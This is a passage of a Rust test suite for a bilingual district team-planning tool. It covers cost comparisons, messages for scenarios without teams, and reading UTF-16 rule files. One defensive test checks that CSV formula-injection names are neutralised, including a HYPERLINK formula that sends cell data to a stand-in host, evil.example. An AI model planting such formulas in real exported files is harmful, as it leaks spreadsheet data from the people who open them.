            };
            let said = if let Some((_, rest)) = line.split_once("would cost the province ") {
                rest
            } else if let Some((_, rest)) = line.split_once("would add ") {
                rest
            } else {
                continue;
            };
            let said = said.split(' ').next().unwrap();
            let (a, b) = figures.unwrap_or_else(|| panic!("two figures in {line}"));
            let expected = if said == "less" { 0 } else { number(said) };
            assert_eq!(expected, (a - b).abs(), "{line}");
            checked += 1;
        }
    }
    assert!(checked >= 30, "only {checked} comparisons read");
}

/// Trial F09: a team kind's name heads a CSV column ("=1+1 teams" in English); every cell of
/// the file, headings included, is neutralised as district names are, so that no spreadsheet
/// runs it as a formula.
#[test]
fn team_kind_names_like_formulas_are_neutralised_in_every_csv_cell() {
    let names = [
        "=1+1",
        "+x",
        "-2+3",
        "@SUM(A1)",
        "=HYPERLINK(\"http://evil.example/\"&A2,\"Bấm vào đây\")",
    ];
    let blocks: String = names
        .iter()
        .map(|n| {
            format!(
                "[[team_kind]]\nname = '{n}'\nscope = \"provincial\"\navailable = 1\n\
                 installs_per_team_day = 40\ncost_per_team_day = 300_000\n\n"
            )
        })
        .collect();
    let what_if = WhatIf::shipped().replace(
        "[[team_kind]]\nname = \"volunteer\"",
        &format!("{blocks}[[team_kind]]\nname = \"volunteer\""),
    );
    for lang in ["vi", "en"] {
        let out = what_if.test().format("csv").lang(lang).run().plan();
        let mut reader = csv::ReaderBuilder::new()
            .has_headers(false)
            .from_reader(out.stdout.trim_start_matches('\u{feff}').as_bytes());
        let mut cells = 0;
        let mut header = Vec::new();
        for (i, record) in reader.records().enumerate() {
            let record = record.unwrap();
            if i == 0 {
                header = record.iter().map(str::to_string).collect();
            }
            for cell in record.iter() {
                cells += 1;
                assert!(
                    !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                    "{lang}: a live formula in the CSV: {cell:?}"
                );
            }
        }
        assert!(cells > 100, "{lang}: {}", out.stdout);
        // each kind is a column of its own, its name kept behind the apostrophe
        for name in names {
            match lang {
                "en" => {
                    let heading = format!("'{name} teams");
                    assert!(header.contains(&heading), "{heading:?} in {header:?}");
                }
                _ => assert!(
                    header.iter().any(|h| h.contains(name)),
                    "{name:?} in {header:?}"
                ),
            }
        }
    }
}

/// The shipped scenario with no team at all (issue 13, F25): every district's commune teams
/// gone and no volunteer team available, written beside a copy of the shipped rules; its
/// path, and the copy (kept for as long as the path is used).
fn without_teams(rules: &[&str]) -> (WhatIf, std::path::PathBuf) {
    let copy = WhatIf::shipped();
    let mut text: String = crate::layout::shipped()
        .lines()
        .map(|l| {
            if l.starts_with("teams = {") {
                "teams = {}".to_string()
            } else if l.starts_with("available = 30") {
                "available = 0".to_string()
            } else {
                l.to_string()
            }
        })
        .collect::<Vec<_>>()
        .join("\n");
    for rule in rules {
        text = crate::layout::replace_once(&text, &format!("  \"../rules/{rule}.rhai\",\n"), "");
    }
    let path = copy.dir().join("scenarios").join("no-teams.toml");
    std::fs::write(&path, text).unwrap();
    (copy, path)
}

/// With no team to send, the finding was that the reachable pool is the limit ("even with
/// every team available it reaches 31.9%"), or a rule's minimum: it must say first that there
/// are no teams, and the setting that gives some, in plan, sweep and compare alike.
#[test]
fn a_scenario_without_teams_says_so_and_which_setting_gives_some() {
    let (_copy, path) = without_teams(&[]);
    let compared = Test::new()
        .args(["compare", crate::layout::SHIPPED])
        .arg(&path)
        .lang("en")
        .run()
        .stdout;
    assert!(
        compared.contains("Why scenario B cannot be met:\n  - There are no teams to send"),
        "{compared}"
    );
    let json = Test::plan(&path).format("json").run().code(2).json();
    let findings = json["findings"].as_array().unwrap();
    assert_eq!(findings[0]["finding"], "no_teams", "{findings:?}");
    assert_eq!(findings[0]["provincial"], serde_json::json!(["volunteer"]));
    assert_eq!(findings[0]["local"], serde_json::json!(["commune"]));
    let vi = Test::plan(&path).run().code(2).stdout;
    assert!(
        vi.contains("Vì sao không khả thi:\n  - Không có tổ, đội nào để cử đi: đội cấp tỉnh `volunteer` có 0 đội (available = 0) và không huyện nào có tổ, đội tại chỗ (`commune`)"),
        "{vi}"
    );
    assert!(
        vi.contains("--set team_kind.volunteer.available=8 (số đội còn thiếu)"),
        "{vi}"
    );
    let en = Test::plan(&path).lang("en").run().code(2).stdout;
    assert!(
        en.contains("Why it cannot be met:\n  - There are no teams to send: the provincial kind `volunteer` has 0 teams available and no district has local teams (`commune`)"),
        "{en}"
    );
    assert!(
        en.contains("--set team_kind.volunteer.available=8 (the teams missing), or fill in each district's teams in the scenario (teams = { commune = ... })"),
        "{en}"
    );

    // a target beyond the reachable pool: the pool's rate is that of teams found, not 31,88%
    let (_copy, path) = without_teams(&["door-to-door"]);
    let en = Test::plan(&path)
        .args([
            "--set",
            "objective=min-cost",
            "--set",
            "target.provincial_rate=0.9",
        ])
        .lang("en")
        .run()
        .code(2)
        .stdout;
    assert!(en.contains("  - There are no teams to send"), "{en}");
    assert!(
        en.contains("--set team_kind.volunteer.available=NUMBER"),
        "{en}"
    );
    assert!(!en.contains("it reaches 31.9%"), "{en}");
    // max-installs: the note on the missed target says it too, with the teams the target needs
    let vi = Test::plan(&path).run().stdout;
    assert!(
        vi.contains("Để đạt mục tiêu: Không có tổ, đội nào để cử đi"),
        "{vi}"
    );
    assert!(
        vi.contains("--set team_kind.volunteer.available=82 (số đội còn thiếu)"),
        "{vi}"
    );

    let sweep = |lang: &str| {
        Test::new()
            .arg("sweep")
            .arg(&path)
            .args(["--set", "objective=min-cost"])
            .args(["--vary", "target.provincial_rate=0.35..0.40:0.05"])
            .lang(lang)
            .run()
            .stdout
    };
    let vi = sweep("vi");
    assert!(vi.contains("  0,35: Không có tổ, đội nào để cử đi"), "{vi}");
    let en = sweep("en");
    assert!(
        en.contains("  0.40: There are no teams to send") && en.contains("available=82"),
        "{en}"
    );
}

/// A rule file saved as UTF-16 with a byte-order mark (Windows Notepad's "Unicode"), little or
/// big endian, or as UTF-8 with a byte-order mark, plans as the UTF-8 file does, as the
/// scenario and its tables are read (issue 13, F23: it was "not UTF-8 text, a binary file").
#[test]
fn rule_files_saved_as_utf16_plan_as_utf8() {
    let shipped = Test::shipped().run().plan().stdout;
    let rule = std::fs::read_to_string(concat!(
        env!("CARGO_MANIFEST_DIR"),
        "/rules/door-to-door.rhai"
    ))
    .unwrap();
    let utf16 = |little: bool| -> Vec<u8> {
        let mut bytes = if little {
            vec![0xFF, 0xFE]
        } else {
            vec![0xFE, 0xFF]
        };
        for unit in rule.encode_utf16() {
            bytes.extend_from_slice(&if little {
                unit.to_le_bytes()
            } else {
                unit.to_be_bytes()
            });
        }
        bytes
    };
    let bom8 = [&[0xEF, 0xBB, 0xBF][..], rule.as_bytes()].concat();
    for bytes in [utf16(true), utf16(false), bom8] {
        let copy = WhatIf::shipped();
        std::fs::write(copy.dir().join("rules").join("door-to-door.rhai"), &bytes).unwrap();
        let out = copy.test().run().plan();
        assert_eq!(out.stdout, shipped);
        let checked = Test::new()
            .args(["rules", "check"])
            .arg(copy.dir().join("rules").join("door-to-door.rhai"))
            .run();
        assert_eq!(checked.code, 0, "{}", checked.stderr);
    }
}
